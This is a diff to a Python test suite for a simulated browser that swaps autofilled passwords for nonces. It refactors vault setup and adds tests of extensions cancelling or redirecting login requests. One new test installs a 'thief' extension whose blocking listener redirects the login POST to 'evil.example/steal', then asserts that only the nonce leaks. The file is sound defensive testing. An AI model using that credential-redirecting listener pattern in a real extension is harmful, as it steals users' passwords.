@@ -32,15 +32,19 @@ from noncepipe.session import BrowserSession, FlowResult
 ORIGIN = Origin("https", "bank.example", 443)
 SSO = Origin("https", "sso.example", 443)
 PASSWORD = "hunter2-secret"
-VAULT = [VaultEntry(ORIGIN, "alice", PASSWORD)]
 
 
 def ok_server(request):
     return WebResponseRecord(request.request_id, 200, body=b"welcome"), "ok"
 
 
+def vault():
+    """A fresh entry per session: a pin one test learns cannot refuse another."""
+    return [VaultEntry(ORIGIN, "alice", PASSWORD)]
+
+
 def make_session(mode=DefenseMode.DESIGN5_API_LATE, server=ok_server, seed=7, **kwargs):
-    return BrowserSession(seed, mode, VAULT, server, **kwargs)
+    return BrowserSession(seed, mode, vault(), server, **kwargs)
 
 
 def add_login_form(page, action=None):
@@ -244,8 +248,7 @@ def test_session_memory_stays_flat_over_autofilled_logins(mode):
 @pytest.mark.parametrize("action", ["cancel", "redirect"])
 @pytest.mark.parametrize("mode", [DefenseMode.DESIGN4_API_EARLY, DefenseMode.DESIGN5_API_LATE])
 def test_cancelled_or_redirected_nonce_login_leaves_no_verdict(mode, action):
-    # its own entry: the hop to /login2 must not meet a pin another test learned
-    session = BrowserSession(7, mode, [VaultEntry(ORIGIN, "alice", PASSWORD)], ok_server)
+    session = make_session(mode)
     session.host.install(ExtensionManifest("blocker", frozenset({Permission.WEB_REQUEST})))
     moved = Url.parse("https://bank.example/login2")
 
@@ -263,6 +266,12 @@ def test_cancelled_or_redirected_nonce_login_leaves_no_verdict(mode, action):
     assert entry.verdict is None
     if action == "cancel":
         assert first.cancelled
+    elif mode is DefenseMode.DESIGN4_API_EARLY:
+        # hop 1's approval pinned /login, so hop 2 to /login2 is refused and
+        # carries the nonce it was submitted with
+        assert first.wire.url.path == "/login2"
+        assert first.wire.body.entries == first.request.body.entries
+        assert "2 substitutionRefused !browser - check=3" in browser_events(first)
     else:
         assert first.wire.url.path == "/login2"
         assert ("password", PASSWORD) in first.wire.body.entries
@@ -294,6 +303,26 @@ def test_failed_login_then_resubmit_on_the_same_page_swaps_again(mode):
 
 def browser_events(result: FlowResult) -> list[str]:
     return [e.to_line() for e in result.transcript.events if e.listener_id == EVENT_LISTENER]
+
+
+@pytest.mark.parametrize(
+    "mode", [DefenseMode.DESIGN4_API_EARLY, DefenseMode.DESIGN5_API_LATE, DefenseMode.MANIFEST_V3]
+)
+def test_redirect_to_another_site_carries_the_nonce_not_the_password(mode):
+    session = make_session(mode)
+    session.host.install(ExtensionManifest("thief", frozenset({Permission.WEB_REQUEST})))
+    steal = Url.parse("https://evil.example/steal")
+
+    def redirect(view):  # redirects request 1 only
+        return Redirect(steal) if view.request_id == 1 else None
+
+    session.host.register_listener("thief", Stage.ON_BEFORE_SEND_HEADERS, redirect, blocking=True)
+    result = login_flow(session)
+    assert result.wire.url.host == "evil.example"
+    (nonce,) = [v for n, v in result.request.body.entries if n == "password"]
+    assert nonce != PASSWORD
+    assert ("password", nonce) in result.wire.body.entries
+    assert "2 substitutionRefused !browser - check=3" in browser_events(result)
 
 
 def test_second_autofill_on_one_page_swaps_like_the_first_in_every_late_mode():
@@ -378,7 +407,7 @@ def rp_server(rp: RelyingParty):
 
 def fido2_session(defended: bool, seed=7):
     rp = RelyingParty(SSO, Random(seed * 1000 + 1), defense_enabled=defended)
-    session = BrowserSession(seed, DefenseMode.DESIGN5_API_LATE, VAULT, rp_server(rp))
+    session = BrowserSession(seed, DefenseMode.DESIGN5_API_LATE, vault(), rp_server(rp))
     return session, rp
 
 
